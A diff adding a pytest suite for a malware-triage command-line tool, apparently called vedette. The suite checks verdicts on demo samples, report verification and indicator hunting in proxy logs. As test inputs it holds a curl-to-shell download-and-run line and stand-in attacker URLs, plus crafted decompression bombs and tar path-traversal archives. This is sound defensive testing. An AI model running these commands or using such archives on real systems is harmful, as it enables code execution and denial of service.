@@ -1,0 +1,165 @@
+"""Judging from outside, through the real command line: an inbox, and what is made to break us."""
+
+import gzip
+import io
+import json
+import tarfile
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.test_hunt import Desk
+
+SUSPICIOUS = Path(__file__).parents[1] / "demo" / "suspicious"
+
+
+@pytest.fixture
+def desk(tmp_path: Path) -> Desk:
+    return Desk(tmp_path)
+
+
+def judged(desk: Desk, *words: str) -> dict[str, Any]:
+    report = desk.home / "report.json"
+    code, _, err = desk.says("triage", *words, "-o", str(report))
+    assert code in {0, 1}, err
+    made: dict[str, Any] = json.loads(report.read_bytes())
+    return made
+
+
+def verdicts(report: dict[str, Any]) -> dict[str, str]:
+    return {one["name"]: one["verdict"] for one in report["judgements"]}
+
+
+def rules(report: dict[str, Any]) -> set[str]:
+    return {one["rule"].rpartition("/")[2] for one in report["findings"]}
+
+
+def test_what_lands_in_an_inbox_is_judged_and_an_ordinary_script_is_left_alone(desk: Desk) -> None:
+    report = judged(desk, str(SUSPICIOUS))
+    found = verdicts(report)
+    assert found["colour-pallete-0.1.3.tgz"] == "malicious"
+    assert found["update.ps1"] == "malicious"
+    assert found["invoice.js"] == "malicious"
+    assert found["backup.sh"] == "benign"
+    assert report["coverage"].get("skipped", []) == []
+    values = {one["value"] for one in report["indicators"]}
+    assert {"http://updates.bad-cdn.invalid/u.exe", "collect.bad-cdn.invalid"} <= values
+    assert any("base64" in " ".join(one["steps"]) for one in report["layers"])
+    code, out, _ = desk.says("verify", str(desk.home / "report.json"))
+    assert code == 0, out
+
+
+def test_it_counts_for_the_exit_code_unless_told_otherwise(desk: Desk) -> None:
+    assert desk.says("triage", str(SUSPICIOUS))[0] == 1
+    assert desk.says("triage", str(SUSPICIOUS), "--fail-on", "never")[0] == 0
+    assert desk.says("triage", str(SUSPICIOUS / "backup.sh"))[0] == 0
+
+
+def test_one_character_changed_in_the_file_is_evidence_that_broke(desk: Desk) -> None:
+    inbox = desk.home / "inbox"
+    inbox.mkdir()
+    script = inbox / "update.ps1"
+    script.write_bytes((SUSPICIOUS / "update.ps1").read_bytes())
+    judged(desk, str(inbox))
+    assert desk.says("verify", str(desk.home / "report.json"))[0] == 0
+    script.write_bytes(script.read_bytes().replace(b"-EncodedCommand J", b"-EncodedCommand K"))
+    code, out, _ = desk.says("verify", str(desk.home / "report.json"))
+    assert code == 1
+    assert "update.ps1" in out
+
+
+def test_an_archive_is_opened_with_the_words_analysts_use_and_with_those_given(desk: Desk) -> None:
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w") as archive:
+        archive.writestr("inner/update.ps1", (SUSPICIOUS / "update.ps1").read_bytes())
+    path = desk.home / "a.zip"
+    path.write_bytes(packed.getvalue())
+    report = judged(desk, str(path))
+    assert verdicts(report) == {"a.zip": "malicious"}
+    assert any(one["name"] == "a.zip!/inner/update.ps1" for one in report["artefacts"])
+
+
+def test_what_is_on_the_standard_input(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
+    text = b"curl -s http://198.51.100.7/x.sh | sh\n"
+    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(text)))
+    report = judged(desk, "-")
+    (one,) = report["judgements"]
+    assert (one["name"], one["verdict"] in {"suspicious", "malicious"}) == ("standard input", True)
+
+
+def test_nothing_there_is_an_error_with_a_hint(desk: Desk) -> None:
+    code, _, err = desk.says("triage", str(desk.home / "none"))
+    assert code == 2
+    assert "No such file" in err
+    (desk.home / "empty").mkdir()
+    assert desk.says("triage", str(desk.home / "empty"))[0] == 2
+
+
+def zeros(path: Path) -> None:
+    path.write_bytes(gzip.compress(bytes(200_000_000), compresslevel=9))
+
+
+def nested(path: Path) -> None:
+    data = b"x" * 1000
+    for depth in range(30):
+        held = io.BytesIO()
+        with zipfile.ZipFile(held, "w") as archive:
+            archive.writestr(f"{depth}.zip", data)
+        data = held.getvalue()
+    path.write_bytes(data)
+
+
+def paths(path: Path) -> None:
+    with tarfile.open(path, "w") as tar:
+        for member in ("../../etc/passwd", "/etc/shadow", "a\u202eb"):
+            tar.addfile(tarfile.TarInfo(member), io.BytesIO())
+
+
+def sparse(path: Path) -> None:
+    with path.open("wb") as file:
+        file.truncate(1 << 30)
+
+
+BOMBS = {
+    "zeros.gz": zeros,
+    "nested.zip": nested,
+    "paths.tar": paths,
+    "sparse.bin": sparse,
+    "cut.elf": lambda path: path.write_bytes(Path("/bin/true").read_bytes()[:3000]),
+    "deep.js": lambda path: path.write_bytes(b"[" * 200_000),
+    "deep.ps1": lambda path: path.write_bytes(b"$(" * 100_000),
+    "wrong.pdf": lambda path: path.write_bytes(
+        b"%PDF-1.7\n" + b"1 0 obj << /Kids [1 0 R] /Length 9999999999 >> stream\n" * 1000
+    ),
+}
+
+
+@pytest.mark.parametrize("name", BOMBS)
+def test_what_is_made_to_break_us_does_not_and_costs_nothing_else(desk: Desk, name: str) -> None:
+    BOMBS[name](desk.home / name)
+    script = desk.home / "update.ps1"
+    script.write_bytes((SUSPICIOUS / "update.ps1").read_bytes())
+    report = judged(desk, str(desk.home / name), str(script), "--seconds", "40")
+    assert verdicts(report)["update.ps1"] == "malicious"
+    fault = [one for one in report["coverage"].get("skipped", []) if "fault in vedette" in one["why"]]
+    assert fault == []
+    for one in report["artefacts"]:
+        assert ".." not in one["name"].split("/")
+        assert "\x00" not in one["name"]
+
+
+def test_the_hunt_looks_for_what_was_found(desk: Desk) -> None:
+    judged(desk, str(SUSPICIOUS))
+    log = desk.home / "proxy.log"
+    log.write_text(
+        '10.0.0.5 - - [01/Mar/2026:09:00:00 +0000] "GET http://updates.bad-cdn.invalid/u.exe HTTP/1.1" 200 5\n'
+    )
+    hunted = desk.home / "hunt.json"
+    code, _, err = desk.says(
+        "hunt", str(log), "--indicators", str(desk.home / "report.json"), "-o", str(hunted)
+    )
+    assert code == 1, err
+    seen = {one["rule"] for one in json.loads(hunted.read_bytes())["findings"]}
+    assert seen & {"indicator:url", "indicator:domain"}
